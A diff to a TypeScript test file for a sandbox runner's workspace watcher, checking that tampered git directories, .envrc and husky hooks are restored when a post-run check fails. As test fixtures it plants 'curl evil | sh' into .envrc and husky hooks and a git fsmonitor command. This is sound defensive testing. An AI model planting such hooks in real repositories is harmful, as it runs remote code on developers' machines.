@@ -7,7 +7,7 @@ import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { isSandboxRunError } from "../../src/errors.js";
 import { violationMessage } from "../../src/workspace/violation-message.js";
-import { WorkspaceWatch, type WorkspaceWatchInput } from "../../src/workspace/workspace-watch.js";
+import { gitChecksFailed, WorkspaceWatch, type WorkspaceWatchInput } from "../../src/workspace/workspace-watch.js";
 import { tempTrees } from "../support/temp-trees.js";
 
 const { tree } = tempTrees("sandbox-run-watch-");
@@ -562,25 +562,73 @@ describe("WorkspaceWatch: a judgement that cannot finish still puts the git dire
     expect(w.judged).toBe(true);
   });
 
-  it("a judgement that throws (its snapshot gone): every git directory is put back, the error says so, and the state stays for gc", async () => {
+  it("a judgement that throws (its snapshot gone): everything the kept copy holds is put back (git directories, protected scopes), the error says so, and the state stays for gc, marked", async () => {
     const ws = gitRepo();
+    fs.writeFileSync(path.join(ws, ".envrc"), "export A=1\n");
+    fs.mkdirSync(path.join(ws, ".husky"));
+    fs.writeFileSync(path.join(ws, ".husky/pre-commit"), "npm test\n");
     const before = state(path.join(ws, ".git"), OBJECTS);
     const stateDir = path.join(tree(), "state");
     const w = await watch(ws, { stateDir });
     w.save({ engine: "test" });
     fs.appendFileSync(path.join(ws, ".git/config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
     fs.writeFileSync(path.join(ws, ".git/hooks/pre-commit"), "#!/bin/sh\n");
+    fs.appendFileSync(path.join(ws, ".envrc"), "curl evil | sh\n");
+    fs.writeFileSync(path.join(ws, ".husky/pre-commit"), "curl evil | sh\n");
+    fs.writeFileSync(path.join(ws, ".husky/post-checkout"), "curl evil | sh\n");
+    fs.writeFileSync(path.join(ws, "src/a.ts"), "the run's own work\n");
     fs.rmSync(path.join(stateDir, "snapshot-0.bin"));
     const error = await w.finish().then(
       () => undefined,
       (e: unknown) => e,
     );
     expect(isSandboxRunError(error) && error.code).toBe("policy-violation");
-    expect((error as Error).message).toMatch(
-      /could not be checked after the run: .*Put back as before the run: \.git\./s,
-    );
+    expect((error as Error).message).toMatch(/could not be checked after the run: .*Put back as before the run: /s);
     expect(state(path.join(ws, ".git"), OBJECTS)).toEqual(before);
+    // Before, only .git went back: the planted .envrc and husky hooks stayed.
+    expect(fs.readFileSync(path.join(ws, ".envrc"), "utf8")).toBe("export A=1\n");
+    expect(fs.readdirSync(path.join(ws, ".husky"))).toEqual(["pre-commit"]);
+    expect(fs.readFileSync(path.join(ws, ".husky/pre-commit"), "utf8")).toBe("npm test\n");
+    expect(fs.readFileSync(path.join(ws, "src/a.ts"), "utf8")).toBe("the run's own work\n");
     expect(w.judged).toBe(false);
-    expect(fs.readdirSync(stateDir)).toContain("watch.json");
+    expect(fs.readdirSync(stateDir)).toEqual(expect.arrayContaining(["watch.json", "watch.failed"]));
+  });
+});
+
+describe("gitChecksFailed: git checks that threw judged nothing", () => {
+  it("refuses every git directory they were to judge and removes the object-store files the run created", () => {
+    const facts = { kind: "file" as const, size: 1, ino: 1, mtimeMs: 0, ctimeMs: 0 };
+    const work = {
+      store: [
+        {
+          path: "a/.git/objects/pack/p.pack",
+          gitRoot: "a/.git",
+          relative: "objects/pack/p.pack",
+          change: "created" as const,
+          after: facts,
+        },
+        {
+          path: "a/.git/objects/pack/q.pack",
+          gitRoot: "a/.git",
+          relative: "objects/pack/q.pack",
+          change: "modified" as const,
+          before: facts,
+          after: facts,
+        },
+      ],
+      pointers: [{ path: ".git/HEAD", gitRoot: ".git", relative: "HEAD", change: "modified" as const }],
+      pointerOverflow: new Set<string>(),
+    } as unknown as Parameters<typeof gitChecksFailed>[0];
+    const result = gitChecksFailed(work, new Error("index-pack vanished"));
+    expect(result.violations.map((v) => `${v.path} ${v.rule}: ${v.detail}`)).toEqual([
+      "a/.git git-refs: not checked: the git checks failed (index-pack vanished)",
+      ".git git-refs: not checked: the git checks failed (index-pack vanished)",
+    ]);
+    expect(result.violations.map((v) => v.restore)).toEqual([
+      { action: "revert", path: "a/.git" },
+      { action: "revert", path: ".git" },
+    ]);
+    // An existing pack git only freshened is history the run never wrote: it stays.
+    expect(result.steps).toEqual([{ action: "remove", path: "a/.git/objects/pack/p.pack", objectStore: true }]);
   });
 });
